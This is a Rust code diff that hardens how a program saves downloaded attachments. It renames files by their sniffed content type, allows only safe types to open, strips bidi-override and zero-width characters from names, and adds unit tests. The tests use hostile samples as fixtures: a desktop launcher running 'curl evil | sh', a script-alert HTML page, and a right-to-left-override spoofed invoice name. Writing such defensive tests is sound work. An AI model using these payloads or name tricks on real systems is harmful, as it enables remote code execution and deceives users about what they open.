@@ -44,12 +44,42 @@ pub fn sniff(bytes: &[u8]) -> Option<&'static str> {
     (clean && !bytes.is_empty()).then_some("text/plain")
 }
 
+/// How a downloaded attachment is saved: under its name, with the extension of the type
+/// its bytes are (appended when the name says otherwise: `run.desktop` holding text is
+/// saved as `run.desktop.txt`, so the desktop opens it as text and never runs it), and
+/// whether the app offers to open it: images, PDF and plain text only; an archive or
+/// anything unrecognised is only saved.
+pub fn saved_name(filename: &str, bytes: &[u8]) -> (String, bool) {
+    let name = clean_filename(filename);
+    let (exts, openable): (&[&str], bool) = match sniff(bytes) {
+        Some("image/png") => (&["png"], true),
+        Some("image/jpeg") => (&["jpg", "jpeg"], true),
+        Some("image/gif") => (&["gif"], true),
+        Some("application/pdf") => (&["pdf"], true),
+        Some("text/plain") => (&["txt", "log"], true),
+        Some("application/zip") => (&["zip"], false),
+        Some("application/gzip") => (&["gz"], false),
+        _ => (&["bin"], false),
+    };
+    let has = name.rsplit_once('.').is_some_and(|(stem, ext)| !stem.is_empty() && exts.iter().any(|e| ext.eq_ignore_ascii_case(e)));
+    let name = if has { name } else { format!("{name}.{}", exts[0]) };
+    (name, openable)
+}
+
 /// A file name safe to show and to save: the last path component, no control
 /// characters, at most 200 characters; `attachment` when nothing is left.
 pub fn clean_filename(name: &str) -> String {
     let last = name.rsplit(['/', '\\']).next().unwrap_or("");
-    let cleaned: String = last.chars().filter(|c| !c.is_control()).take(200).collect();
-    let cleaned = cleaned.trim().trim_start_matches('.').to_owned();
+    // Control characters go, and so do the invisible ones that make a name read other
+    // than it is: bidi overrides and isolates ("invoice\u{202E}fdp.exe" shows as
+    // "invoiceexe.pdf"), zero-width characters, the BOM.
+    let invisible = |c: &char| matches!(*c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}');
+    let cleaned: String = last.chars().filter(|c| !c.is_control() && !invisible(c)).take(200).collect();
+    let mut cleaned = cleaned.trim().trim_start_matches('.').to_owned();
+    // File systems take 255 bytes a name: 200 characters of a non-Latin script can be more.
+    while cleaned.len() > 255 {
+        cleaned.pop();
+    }
     if cleaned.is_empty() { "attachment".into() } else { cleaned }
 }
 
@@ -76,5 +106,27 @@ mod tests {
         assert_eq!(clean_filename(".bashrc"), "bashrc");
         assert_eq!(clean_filename("a\u{0}b\nc.log"), "abc.log");
         assert_eq!(clean_filename("/"), "attachment");
+    }
+
+    #[test]
+    fn a_saved_file_is_named_by_what_it_is_and_only_safe_types_open() {
+        let text = b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n";
+        assert_eq!(saved_name("run.desktop", text), ("run.desktop.txt".into(), true), "text, never a launcher");
+        assert_eq!(saved_name("page.html", b"<script>alert(1)</script>"), ("page.html.txt".into(), true));
+        assert_eq!(saved_name("trace.LOG", b"1  gw\n"), ("trace.LOG".into(), true));
+        assert_eq!(saved_name("photo.jpeg", b"\xff\xd8\xff\xe0"), ("photo.jpeg".into(), true));
+        assert_eq!(saved_name("photo.png", b"\xff\xd8\xff\xe0"), ("photo.png.jpg".into(), true), "the bytes decide");
+        assert_eq!(saved_name("tool.jar", b"PK\x03\x04rest"), ("tool.jar.zip".into(), false), "an archive is saved, not opened");
+        assert_eq!(saved_name("invoice.pdf", b"MZ\x90\x00"), ("invoice.pdf.bin".into(), false), "unknown bytes");
+        assert_eq!(saved_name(".pdf", b"%PDF-1.7"), ("pdf.pdf".into(), true));
+    }
+
+    #[test]
+    fn file_names_lose_invisible_characters_and_fit_a_file_system() {
+        assert_eq!(clean_filename("invoice\u{202E}fdp.exe"), "invoicefdp.exe", "a right-to-left override");
+        assert_eq!(clean_filename("re\u{200B}port\u{2066}.pdf\u{FEFF}"), "report.pdf");
+        let long = "日".repeat(200); // 600 bytes
+        let cleaned = clean_filename(&long);
+        assert!(cleaned.len() <= 255 && cleaned.chars().all(|c| c == '日'), "{} bytes", cleaned.len());
     }
 }
